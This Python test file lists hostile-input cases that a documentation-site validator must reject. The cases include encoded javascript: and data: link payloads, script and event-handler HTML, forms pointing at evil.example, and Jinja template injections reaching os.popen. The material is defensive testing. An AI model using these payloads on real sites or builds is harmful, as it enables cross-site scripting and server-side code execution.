"""Issue 9's attacks, and their variants, as hostile-input cases (appended to ``CASES``).

Each is what an attacker with write access to the record or ``content/``
would try: a link that runs script, raw HTML that runs script, a template
expression that runs code during the build, a heading nobody can see that
satisfies a requirement, a YAML 1.1 spelling that loads as another value,
invisible text, and a page path with two spellings. ``validate`` must reject
each with the file, the line and the code given here.
"""

from __future__ import annotations

from tests.factory import IMPLEMENTATION_DOCUMENT, TESTING_APPROACH
from tests.hostile.cases import GOOD_MOD, ID, M, R, TA, Case, mod_with, release_with

POLICY_PAGE = "content/policy/release-management-policy.md"
HOME = "content/index.md"


def summary(text: str) -> str:
    """The modification with a summary line (line 6) holding ``text`` as YAML."""
    return GOOD_MOD + f"summary: {text}\n"


def doc_with(extra: str) -> str:
    """The complete Implementation Document with ``extra`` appended under its last section."""
    return IMPLEMENTATION_DOCUMENT + "\n" + extra + "\n"


def id_replacing(old: str, new: str) -> str:
    assert old in IMPLEMENTATION_DOCUMENT, old
    return IMPLEMENTATION_DOCUMENT.replace(old, new, 1)


def ta_replacing(old: str, new: str) -> str:
    assert old in TESTING_APPROACH, old
    return TESTING_APPROACH.replace(old, new, 1)


TIMESCALES = "## Timescales\nSee the milestones.\n"

SECURITY_CASES: list[Case] = [
    # --- 1. links in the record's text: judged after decoding, as a browser reads them
    Case("link-javascript-entity-decimal", "the issue's payload: &#58; hides the colon", {M: summary("'Read [the details](javascript&#58;alert(document.domain)) first.'")}, M, "unsafe-link", 6),
    Case("link-javascript-entity-colon", "&colon; hides the colon", {M: summary("'[x](javascript&colon;alert(1))'")}, M, "unsafe-link", 6),
    Case("link-javascript-entity-hex", "&#x3A; hides the colon", {M: summary("'[x](javascript&#x3A;alert(1))'")}, M, "unsafe-link", 6),
    Case("link-javascript-entity-zero-padded", "&#0000058; hides the colon", {M: summary("'[x](javascript&#0000058;alert(1))'")}, M, "unsafe-link", 6),
    Case("link-javascript-double-encoded", "&amp;#58;: decoded until nothing changes", {M: summary("'[x](javascript&amp;#58;alert(1))'")}, M, "unsafe-link", 6),
    Case("link-javascript-entity-letters", "the scheme's letters as references", {M: summary("'[x](&#106;&#97;vascript:alert(1))'")}, M, "unsafe-link", 6),
    Case("link-javascript-mixed-case", "JaVaScRiPt:", {M: summary("'[x](JaVaScRiPt:alert(1))'")}, M, "unsafe-link", 6),
    Case("link-javascript-tab-inside", "a tab inside the scheme (browsers drop it)", {M: summary('"[x](java\\tscript:alert(1))"')}, M, "unsafe-link", 6),
    Case("link-javascript-newline-entity", "&#x0A; inside the scheme", {M: summary("'[x](java&#x0A;script:alert(1))'")}, M, "unsafe-link", 6),
    Case("link-javascript-angle-brackets", "a <...> link destination", {M: summary("'[x](<javascript:alert(1)>)'")}, M, "unsafe-link", 6),
    Case("link-reference-style", "a reference link whose definition is javascript:", {M: GOOD_MOD + "summary: |\n  See [the details][d].\n\n  [d]: javascript:alert(1)\n"}, M, "unsafe-link", 9),
    Case("link-image", "an image whose source is javascript:", {M: summary("'![chart](javascript:alert(1))'")}, M, "unsafe-link", 6),
    Case("link-image-entity", "an image, entity-encoded", {M: summary("'![chart](javascript&#58;alert(1))'")}, M, "unsafe-link", 6),
    Case("link-data-url", "a data: URL (HTML with script)", {M: summary("'[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'")}, M, "unsafe-link", 6),
    Case("link-vbscript", "vbscript:", {M: summary("'[x](vbscript:msgbox(1))'")}, M, "unsafe-link", 6),
    Case("link-file-scheme", "file: (not a web address)", {M: summary("'[x](file:///etc/passwd)'")}, M, "unsafe-link", 6),
    Case("link-in-release-note", "a link in a release's note on a modification", {R: release_with("  status: implemented\n", "  status: implemented\n  note: '[x](javascript&#58;alert(1))'\n")}, R, "unsafe-link", "note:"),
    Case("link-in-block-scalar", "a link on the third line of a block summary", {M: GOOD_MOD + "summary: |\n  First line.\n  Second line.\n  Then [x](javascript:alert(1)).\n"}, M, "unsafe-link", 9),
    Case("url-field-javascript", "url: javascript:", {M: GOOD_MOD + "url: javascript:alert(1)\n"}, M, ("invalid-value", "schema"), 6),
    Case("url-field-entity", "url: with an encoded scheme", {M: GOOD_MOD + "url: 'javascript&#58;alert(1)'\n"}, M, ("invalid-value", "schema"), 6),
    # --- 2. raw HTML in content/: an allowlist
    Case("html-script", "a script element in a document", {ID: doc_with("<script>alert(document.domain)</script>")}, ID, "html-not-allowed", "<script>"),
    Case("html-img-onerror", "an event handler on an image", {ID: doc_with("<img src=x onerror=alert(1)>")}, ID, "html-attribute-not-allowed", "onerror"),
    Case("html-iframe", "an iframe", {ID: doc_with('<iframe src="https://example.org/"></iframe>')}, ID, "html-not-allowed", "<iframe"),
    Case("html-svg-onload", "an SVG with onload", {ID: doc_with("<svg onload=alert(1)></svg>")}, ID, "html-not-allowed", "<svg"),
    Case("html-a-javascript", "a raw link to javascript:", {ID: doc_with('<a href="javascript:alert(1)">details</a>')}, ID, "unsafe-link", "<a href"),
    Case("html-a-javascript-entities", "a raw link, scheme entity-encoded", {ID: doc_with('<a href="java&#x73;cript&colon;alert(1)">details</a>')}, ID, "unsafe-link", "<a href"),
    Case("html-a-javascript-upper", "A HREF=JAVASCRIPT:", {ID: doc_with('<A HREF="JAVASCRIPT:alert(1)">x</A>')}, ID, "unsafe-link", "<A HREF"),
    Case("markdown-data-link", "[x](data:...) in a document", {ID: doc_with("[x](data:text/html,<script>alert(1)</script>)")}, ID, "unsafe-link", "[x](data:"),
    Case("markdown-javascript-image", "![x](javascript:...) in a document", {ID: doc_with("![x](javascript:alert(1))")}, ID, "unsafe-link", "![x]"),
    Case("html-object", "an object element", {ID: doc_with('<object data="x.swf"></object>')}, ID, "html-not-allowed", "<object"),
    Case("html-embed", "an embed element", {ID: doc_with('<embed src="x.swf">')}, ID, "html-not-allowed", "<embed"),
    Case("html-style", "a style element", {ID: doc_with("<style>body{display:none}</style>")}, ID, "html-not-allowed", "<style>"),
    Case("html-form", "a form posting elsewhere", {ID: doc_with('<form action="https://evil.example/"><input name=p></form>')}, ID, "html-not-allowed", "<form"),
    Case("html-meta-refresh", "a meta refresh to javascript:", {ID: doc_with('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">')}, ID, "html-not-allowed", "<meta"),
    Case("html-base", "a base element re-pointing every link", {ID: doc_with('<base href="https://evil.example/">')}, ID, "html-not-allowed", "<base"),
    Case("html-onclick-div", "an event handler on an allowed element", {ID: doc_with('<div onclick="alert(1)">x</div>')}, ID, "html-attribute-not-allowed", "onclick"),
    Case("html-attr-list-handler", "an attribute list adding an event handler", {ID: doc_with('Click here.\n{: onclick="alert(1)" }')}, ID, "html-attribute-not-allowed", "{: onclick"),
    Case("html-math", "MathML (a known sanitiser-bypass vector)", {ID: doc_with("<math><mtext><script>alert(1)</script></mtext></math>")}, ID, "html-not-allowed", "<math>"),
    Case("html-in-policy", "a script in the Policy", {POLICY_PAGE: "# SEC Release Management Policy\n\n<script>alert(1)</script>\n"}, POLICY_PAGE, "html-not-allowed", 3),
    Case("html-in-home", "a script in a page the record does not name", {HOME: "# Home\n\nText.\n\n<img src=x onerror=alert(1)>\n"}, HOME, "html-attribute-not-allowed", 5),
    # --- 3. template expressions in content/
    Case("template-lipsum-globals", "the issue's payload: lipsum's globals reach os", {ID: doc_with('{{ lipsum.__globals__["os"].popen("id").read() }}')}, ID, "page-template", "lipsum"),
    Case("template-cycler-globals", "cycler's __init__ globals", {ID: doc_with("{{ cycler.__init__.__globals__.os.popen('id').read() }}")}, ID, "page-template", "cycler"),
    Case("template-joiner-globals", "joiner's __init__ globals", {ID: doc_with("{{ joiner.__init__.__globals__.os.popen('id').read() }}")}, ID, "page-template", "joiner"),
    Case("template-namespace-globals", "namespace's __init__ globals", {ID: doc_with("{{ namespace.__init__.__globals__.os.popen('id').read() }}")}, ID, "page-template", "namespace"),
    Case("template-subclasses", "''.__class__.__mro__[1].__subclasses__()", {ID: doc_with("{{ ''.__class__.__mro__[1].__subclasses__() }}")}, ID, "page-template", "__subclasses__"),
    Case("template-attr-filter", "|attr('__class__') instead of a dot", {ID: doc_with("{{ sec|attr('__class__') }}")}, ID, "page-template", "attr("),
    Case("template-format-string", "str.format reaching attributes", {ID: doc_with("{{ '{0.__class__}'.format(sec) }}")}, ID, "page-template", ".format("),
    Case("template-config", "the MkDocs config object", {ID: doc_with("{{ config.site_name }}")}, ID, "page-template", "config"),
    Case("template-os", "a bare os", {ID: doc_with("{{ os }}")}, ID, "page-template", "{{ os }}"),
    Case("template-self", "the template's own self", {ID: doc_with("{{ self.__init__.__globals__ }}")}, ID, "page-template", "{{ self"),
    Case("template-getitem-dunder", "a dunder by subscript", {ID: doc_with("{{ sec['__class__'] }}")}, ID, "page-template", "sec["),
    Case("template-set-dunder", "a dunder through {% set %}", {ID: doc_with("{% set x = sec.__class__ %}{{ x }}")}, ID, "page-template", "{% set"),
    Case("template-for-mro", "a loop over __mro__", {ID: doc_with("{% for c in ''.__class__.__mro__ %}{{ c }}{% endfor %}")}, ID, "page-template", "{% for"),
    Case("template-range", "range() (a global that is gone)", {ID: doc_with("{{ range(10**9) | list }}")}, ID, "page-template", "range("),
    Case("template-syntax-error", "a template that does not parse", {ID: doc_with("{{ sec.next_release. }}")}, ID, "page-template", "{{ sec.next_release. }}"),
    # --- 6. sections are what a reader sees
    Case("section-in-comment", "the required heading inside an HTML comment", {ID: id_replacing(TIMESCALES, "<!--\n" + TIMESCALES + "-->\n")}, ID, "d10-13-timescales", 1),
    Case("section-in-backtick-fence", "the heading inside a fence of four backticks", {ID: id_replacing(TIMESCALES, "````\n" + TIMESCALES + "````\n")}, ID, "d10-13-timescales", 1),
    Case("section-in-tilde-fence", "the heading inside a ~~~ fence", {ID: id_replacing(TIMESCALES, "~~~\n" + TIMESCALES + "~~~\n")}, ID, "d10-13-timescales", 1),
    Case("section-in-three-backtick-fence", "the heading inside a ``` fence", {ID: id_replacing(TIMESCALES, "```\n" + TIMESCALES + "```\n")}, ID, "d10-13-timescales", 1),
    Case("section-only-nbsp", "a section holding only &nbsp;", {ID: id_replacing(TIMESCALES, "## Timescales\n&nbsp;\n")}, ID, "d10-13-timescales", "## Timescales"),
    Case("section-only-br", "a section holding only <br>", {ID: id_replacing(TIMESCALES, "## Timescales\n<br>\n")}, ID, "d10-13-timescales", "## Timescales"),
    Case("section-only-subheading", "a section holding only a sub-heading", {ID: id_replacing(TIMESCALES, "## Timescales\n### Phase 1\n")}, ID, "d10-13-timescales", "## Timescales"),
    Case("section-only-zero-width", "a section of zero-width spaces", {ID: id_replacing(TIMESCALES, "## Timescales\n\u200b\u200b\n")}, ID, "d10-13-timescales", "## Timescales"),
    Case("section-only-comment", "a section holding only a comment", {ID: id_replacing(TIMESCALES, "## Timescales\n<!-- see the milestones -->\n")}, ID, "d10-13-timescales", "## Timescales"),
    Case("section-placeholder-tbc", "the existing placeholder rule still holds", {TA: ta_replacing("A single cut-over weekend.", "To be confirmed")}, TA, "d10-18-implementation-strategy", "## Implementation strategy"),
    # --- 7. scalars are what they look like
    Case("scalar-octal", "responses: 010 (YAML 1.1: 8)", {R: release_with("    responses: 7\n", "    responses: 010\n")}, R, "yaml-number", "responses: 010"),
    Case("scalar-sexagesimal", "responses: 1:30 (YAML 1.1: 90)", {R: release_with("    responses: 7\n", "    responses: 1:30\n")}, R, "yaml-number", "responses: 1:30"),
    Case("scalar-hex", "responses: 0x1f", {R: release_with("    responses: 7\n", "    responses: 0x1f\n")}, R, "yaml-number", "responses: 0x1f"),
    Case("scalar-underscore", "responses: 1_000", {R: release_with("    responses: 7\n", "    responses: 1_000\n")}, R, "yaml-number", "responses: 1_000"),
    Case("scalar-bool-yes", "draft: yes", {R: release_with("draft: false\n", "draft: yes\n")}, R, "yaml-boolean", "draft: yes"),
    Case("scalar-bool-off", "draft: off", {R: release_with("draft: false\n", "draft: off\n")}, R, "yaml-boolean", "draft: off"),
    Case("scalar-bool-on", "dcc_systems_impact: on", {M: mod_with("dcc_systems_impact: true", "dcc_systems_impact: on")}, M, "yaml-boolean", 5),
    Case("scalar-bool-True", "dcc_systems_impact: True", {M: mod_with("dcc_systems_impact: true", "dcc_systems_impact: True")}, M, "yaml-boolean", 5),
    Case("scalar-bool-FALSE", "dcc_systems_impact: FALSE", {M: mod_with("dcc_systems_impact: true", "dcc_systems_impact: FALSE")}, M, "yaml-boolean", 5),
    Case("scalar-bool-n", "dcc_systems_impact: No", {M: mod_with("dcc_systems_impact: true", "dcc_systems_impact: No")}, M, "yaml-boolean", 5),
    Case("scalar-version-float", "sec_version: 6.20 (a number, not the text 6.20)", {R: release_with("sec_version: '6.21'", "sec_version: 6.20")}, R, "wrong-type", "sec_version"),
    Case("text-zero-width-title", "a title of only zero-width characters", {M: mod_with("title: Second-Comer Charging", 'title: "\\u200b\\u200c\\u2060"')}, M, "invalid-value", 2),
    Case("text-bidi-only-title", "a title of only bidi controls", {M: mod_with("title: Second-Comer Charging", 'title: "\\u202e\\u202d"')}, M, "invalid-value", 2),
    Case("page-dot-slash", "page: ./releases/... (loses the document's header)", {R: release_with("page: releases/2019-11/implementation-document.md", "page: ./releases/2019-11/implementation-document.md")}, R, "page-path", "./releases"),
    Case("page-double-slash", "page: releases//... (loses its nav place)", {R: release_with("page: releases/2019-11/implementation-document.md", "page: releases//2019-11/implementation-document.md")}, R, "page-path", "releases//"),
    Case("page-backslash", "page: with backslashes", {R: release_with("page: releases/2019-11/implementation-document.md", "page: 'releases\\2019-11\\implementation-document.md'")}, R, "page-path", "page: 'releases"),
    Case("page-dot-dot-inside", "page: going up and back down", {R: release_with("page: releases/2019-11/implementation-document.md", "page: releases/../releases/2019-11/implementation-document.md")}, R, "page-path", "releases/../"),
]
